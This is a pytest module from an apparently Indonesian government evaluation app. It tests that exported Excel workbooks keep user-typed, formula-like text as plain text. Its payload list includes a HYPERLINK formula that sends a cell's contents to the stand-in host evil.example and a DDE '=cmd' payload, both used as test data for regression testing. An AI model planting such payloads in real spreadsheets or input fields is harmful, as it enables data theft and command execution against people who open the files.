"""Formula injection (issue 14, finding 2): text typed by a user reaches the workbooks as text.

Any operator can type a penjelasan, an evidence title or a document number that a spreadsheet
would read as a formula (`=HYPERLINK("http://evil.example/?leak="&B2,...)` sends the
neighbouring cell to a server when clicked) and wait for a colleague to export. Every text cell
of every workbook the project writes must be a text cell (openpyxl's data type "s", never "f"
or the error type "e"), hold the text exactly as typed (no apostrophe added to the value), and
carry Excel's quotePrefix where it starts like a formula, so that editing the cell keeps it
text. LibreOffice, converting the files, shows the text as typed and computes nothing."""

from __future__ import annotations

import csv

import pytest
from reports_support import header, other_period, populate, workbook

from monev.evaluations.models import Answer, AssessorPass, Comment
from monev.evidence.models import Evidence
from monev.imports import services as import_services
from monev.imports.workbooks import template_workbook
from monev.institutions.access import access_for
from monev.institutions.permissions import Access

# What Excel and LibreOffice read as the start of a formula when it is typed into a cell (the
# audit CSV guards the same starts, monev.audit.export.spreadsheet_safe).
from monev.lib.spreadsheets import FORMULA_START
from monev.monitoring.models import Snapshot
from monev.reports.exports import WORKBOOK_KINDS, export_institutions, export_period
from monev.reports.workbook import Book, Column
from tools_support import libreoffice_convert

# One payload per user-typed field, each with another formula-like start (=, +, -, @, tab, CR)
# or an error value, so that a cell is traced back to the field it came from.
HOSTILE = {
    "explanation": '=HYPERLINK("http://evil.example/?leak="&B2,"Lihat bukti")',
    "explanation_cr": "\r=2+2",
    "evidence_title": '=HYPERLINK("http://evil.example/","Bukti")',
    "document_number": "=2+2",
    "evidence_url": "+1+1",
    "evidence_title_error": "#N/A",
    "unit_a_name": "-2+3",
    "unit_a_code": "=A1",
    "unit_a_short_name": "=1-1",
    "unit_b_name": "\t=1+1",
    "author": '=cmd|" /C calc"!A0',
    "institution_response": "@SUM(1+1)",
    "snapshot_label": "=TODAY()",
    "institution_name": "=1/0",
    "institution_code": "-9",
    "institution_province": "@NOW()",
}

# (workbook, sheet, column) -> the payload the cell holds exactly.
EXPECTED = [
    ("self-assessment", "Penilaian Mandiri", "Penjelasan", "explanation"),
    ("self-assessment", "Penilaian Mandiri", "Penjelasan", "explanation_cr"),
    ("self-assessment", "Penilaian Mandiri", "Unit Penanggung Jawab", "unit_a_name"),
    ("self-assessment", "Penilaian Mandiri", "Unit Penanggung Jawab", "unit_b_name"),
    ("self-assessment", "Penilaian Mandiri", "Tanggapan Instansi", "institution_response"),
    ("self-assessment", "Data Dukung", "Judul", "evidence_title"),
    ("self-assessment", "Data Dukung", "Judul", "evidence_title_error"),
    ("self-assessment", "Data Dukung", "Nomor Dokumen", "document_number"),
    ("self-assessment", "Data Dukung", "Tautan", "evidence_url"),
    ("self-assessment", "Data Dukung", "Unit Pemasok", "unit_a_name"),
    ("units", "Ringkasan", "Kode Unit", "unit_a_code"),
    ("units", "Ringkasan", "Unit", "unit_a_name"),
    ("units", "Ringkasan", "Unit", "unit_b_name"),
    ("units", "Ringkasan", "Lembar", "unit_a_short_name"),
    ("units", "Keterangan", "Lembar", "unit_a_short_name"),
    ("recap", "Triwulan", "Potret", "snapshot_label"),
    ("institutions", "Peringkat", "Instansi", "institution_name"),
    ("institutions", "Peringkat", "Kode Instansi", "institution_code"),
    ("institutions", "Peringkat", "Provinsi", "institution_province"),
    ("institutions", "Tingkat per Indikator", "Instansi", "institution_name"),
    ("institutions", "Tingkat per Indikator", "Kode Instansi", "institution_code"),
    ("institutions", "Tingkat per Indikator", "Provinsi", "institution_province"),
]


def plant(world) -> None:
    """The world, populated, with a hostile text in every field a user types that reaches a
    workbook; the other institution has a period too, for the recap over institutions."""
    populate(world)
    other = other_period(world, "3")
    assert other.institution_id == world.other_institution.pk
    Answer.objects.filter(pk=world.answer("1").pk).update(explanation=HOSTILE["explanation"])
    Answer.objects.filter(pk=world.answer("2").pk).update(explanation=HOSTILE["explanation_cr"])
    Evidence.objects.filter(title="Perwal SPBE").update(
        title=HOSTILE["evidence_title"], document_number=HOSTILE["document_number"]
    )
    Evidence.objects.filter(title="Aplikasi SSO").update(url=HOSTILE["evidence_url"])
    error_text = Evidence.objects.create(
        institution=world.institution,
        title=HOSTILE["evidence_title_error"],
        kind=Evidence.Kind.OTHER,
        unit=world.unit_a,
    )
    world.answer("1").evidence_links.create(evidence=error_text, level=1)
    unit_a, unit_b = world.unit_a, world.unit_b
    unit_a.name, unit_a.code = HOSTILE["unit_a_name"], HOSTILE["unit_a_code"]
    unit_a.short_name = HOSTILE["unit_a_short_name"]
    unit_a.save()
    unit_b.name = HOSTILE["unit_b_name"]
    unit_b.save()
    author = world.asesor_internal
    author.full_name = HOSTILE["author"]
    author.save()
    Comment.objects.create(answer=world.answer("4"), author=author, body="=1+1")
    AssessorPass.objects.filter(answer=world.answer("3")).update(
        institution_response=HOSTILE["institution_response"]
    )
    Snapshot.objects.filter(period=world.period).update(label=HOSTILE["snapshot_label"])
    institution = world.other_institution
    institution.name = HOSTILE["institution_name"]
    institution.code = HOSTILE["institution_code"]
    institution.province = HOSTILE["institution_province"]
    institution.save()


def exports(world) -> dict[str, bytes]:
    access = access_for(world.koordinator, world.institution.pk)
    files = {kind: export_period(world.period, access, kind).content for kind in WORKBOOK_KINDS}
    files["institutions"] = export_institutions(Access.system_viewer(), 2025, "spbe-2020").content
    return files


def column_cells(book, sheet: str, column: str) -> list:
    index = header(book[sheet]).index(column)
    return [cells[index] for cells in book[sheet].iter_rows(min_row=2) if len(cells) > index]


def formula_or_error_cells(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate} {cell.data_type} {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]


@pytest.mark.django_db
def test_no_exported_workbook_holds_a_formula_from_text_a_user_typed(world):
    plant(world)
    files = exports(world)
    assert set(files) == {"self-assessment", "units", "recap", "institutions"}
    for kind, content in files.items():
        assert formula_or_error_cells(workbook(content)) == [], kind


@pytest.mark.django_db
def test_hostile_text_is_kept_exactly_as_typed_and_marked_as_text(world):
    plant(world)
    books = {kind: workbook(content) for kind, content in exports(world).items()}
    for kind, sheet, column, field in EXPECTED:
        payload = HOSTILE[field]
        cells = [c for c in column_cells(books[kind], sheet, column) if c.value == payload]
        assert cells, (kind, sheet, column, payload)
        for cell in cells:
            assert cell.data_type == "s", (kind, sheet, column, payload)
            # Excel's quote prefix: a user who edits the cell and presses Enter keeps text.
            assert cell.quotePrefix, (kind, sheet, column, payload)
    # The comment's author starts the comments cell.
    comments = column_cells(
        books["self-assessment"], "Penilaian Mandiri", "Komentar dan Catatan Pengembalian"
    )
    written = [c for c in comments if c.value and c.value.startswith(HOSTILE["author"])]
    assert written and all(c.data_type == "s" and c.quotePrefix for c in written)
    # The unit's sheet is named after its short name, formula-like or not.
    assert HOSTILE["unit_a_short_name"] in books["units"].sheetnames


def test_a_book_writes_formula_like_text_as_text_in_plain_styled_and_streamed_sheets():
    columns = (
        Column("=Kolom", 10, "-penjelasan"),  # headers and explanations are text too
        Column("Panjang", 30, "Teks panjang.", wrap=True),
        Column("Angka", 8, "Angka.", "0"),
    )
    texts = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "#REF!", "=", "biasa"]
    rows = [[text, text, -5] for text in texts]
    book = Book("Uji")
    book.sheet("Biasa", columns, rows)
    book.sheet("Dialirkan", columns, rows, streamed=True)
    read = workbook(book.to_bytes())
    assert formula_or_error_cells(read) == []
    for name in ("Biasa", "Dialirkan"):
        sheet = read[name]
        assert sheet["A1"].value == "=Kolom" and sheet["A1"].data_type == "s"
        for number, text in enumerate(texts, start=2):
            for letter in "AB":
                cell = sheet[f"{letter}{number}"]
                assert (cell.value, cell.data_type) == (text, "s"), (name, cell.coordinate)
                marked = text.startswith(FORMULA_START) or text == "#REF!"
                assert cell.quotePrefix == marked, (name, cell.coordinate)
            # Negative numbers stay numbers.
            assert (sheet[f"C{number}"].value, sheet[f"C{number}"].data_type) == (-5, "n")
        assert sheet["B2"].alignment.wrap_text  # the column's style survives the prefix
    legend = read["Keterangan"]
    assert "-penjelasan" in [cell.value for cell in legend["C"]]


@pytest.mark.django_db
def test_the_import_templates_hold_no_formula():
    for name, kind in import_services.KINDS.items():
        assert formula_or_error_cells(workbook(template_workbook(kind))) == [], name


# Filter options: comma, double quote, UTF-8, from line 1, ..., -1 = every sheet to its own
# file (<name>-<sheet>.csv); a formula cell would be written as its computed value.
CSV_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


@pytest.mark.django_db
def test_libreoffice_shows_hostile_text_as_typed_and_computes_nothing(world, tmp_path):
    plant(world)
    sources = tmp_path / "xlsx"
    sources.mkdir()
    paths = []
    for kind, content in exports(world).items():
        path = sources / f"{kind}.xlsx"
        path.write_bytes(content)
        paths.append(path)
    out = tmp_path / "csv"
    libreoffice_convert(paths, CSV_EVERY_SHEET, out, tmp_path / "lo-profile")
    for kind, sheet, column, field in EXPECTED:
        converted = out / f"{kind}-{sheet}.csv"
        assert converted.exists(), sorted(p.name for p in out.iterdir())
        with converted.open(encoding="utf-8", newline="") as handle:  # keeps a CR in a cell
            table = list(csv.reader(handle))
        index = table[0].index(column)
        values = [row[index] for row in table[1:] if len(row) > index]
        assert HOSTILE[field] in values, (kind, sheet, column, HOSTILE[field], values[:5])
    # What the planted HYPERLINK would have computed (its label) is nowhere.
    with (out / "self-assessment-Data Dukung.csv").open(encoding="utf-8", newline="") as handle:
        assert "Bukti" not in [cell for row in csv.reader(handle) for cell in row]
